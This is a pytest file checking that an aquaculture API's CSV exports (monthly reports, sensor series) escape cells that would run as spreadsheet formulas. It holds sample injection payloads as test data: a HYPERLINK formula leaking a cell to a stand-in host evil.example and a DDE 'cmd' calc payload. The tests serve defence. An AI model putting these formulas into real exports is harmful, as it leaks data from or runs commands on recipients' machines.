"""Every CSV the API writes opens as data in a spreadsheet, never as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator

import pytest

from api.csvsafe import safe_cell
from kolam.config import KolamConfig
from kolam.farming.kpi import DAY_MS
from kolam.store import SeriesKey
from kolam.timeutil import WIB, from_ms, iso, now_ms
from tests.utils.farm import SITE_A, Farm, farm_app

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def farm(make_config: Callable[..., KolamConfig]) -> Iterator[Farm]:
    with farm_app(make_config) as f:
        yield f


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def live_formulas(table: list[list[str]]) -> list[str]:
    return [cell for row in table for cell in row
            if cell.startswith(FORMULA_START) and safe_cell(cell) != cell]


@pytest.mark.parametrize(("value", "written"), [
    (EVIL, "'" + EVIL), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-2+3", "'-2+3"),
    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-3", "-1e-3"), (-7.25, -7.25), (-3, -3),
    ("Lele Jaya", "Lele Jaya"), ("", ""), (None, None),
])
def test_cells_that_would_run_are_quoted_numbers_are_not(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_monthly_csv_writes_a_team_name_as_text(farm: Farm) -> None:
    c, officer = farm.client, farm.as_("officer")
    base = f"/api/v1/sites/{SITE_A}"
    team = c.post(f"{base}/teams", headers=officer, json={"name": EVIL}).json()
    now = now_ms()
    cycle = c.post(f"{base}/ponds/kolam-2/cycles", headers=officer, json={
        "team_id": team["id"], "stocked_at": iso(now - DAY_MS), "seed_count": 100,
        "seed_weight_g": 2.0})
    assert cycle.status_code == 201, cycle.text
    r = c.post(f"{base}/cycles/{cycle.json()['id']}/harvests", headers=officer,
               json={"kg": 1.0, "count": 10, "at": iso(now - 60_000), "confirm": True})
    assert r.status_code == 201, r.text
    month = from_ms(now - 60_000).astimezone(WIB).strftime("%Y-%m")
    r = c.get(f"{base}/reports/monthly.csv", params={"month": month}, headers=officer)
    assert r.status_code == 200
    table = rows(r.text)
    names = [row[2] for row in table[1:-1]]
    assert "'" + EVIL in names and EVIL not in names
    assert live_formulas(table) == []


def test_series_csv_has_no_live_formula_and_keeps_numbers(farm: Farm) -> None:
    now = now_ms() // 60_000 * 60_000
    key = SeriesKey(SITE_A, "kolam-1", "node-1", "temp_c")
    farm.store.write([(key, now - i * 60_000, 20.0 + i) for i in range(5)])
    for params in ({}, {"step": 120}):
        r = farm.client.get(f"/api/v1/sites/{SITE_A}/ponds/kolam-1/series.csv",
                            headers=farm.as_("officer"),
                            params={"metric": "temp_c", "start": iso(now - 10 * 60_000),
                                    "end": iso(now + 1)} | params)
        assert r.status_code == 200, r.text
        table = rows(r.text)
        assert live_formulas(table) == [] and len(table) > 2
        assert all(float(v) >= 20 for row in table[1:] for v in row[1:2])
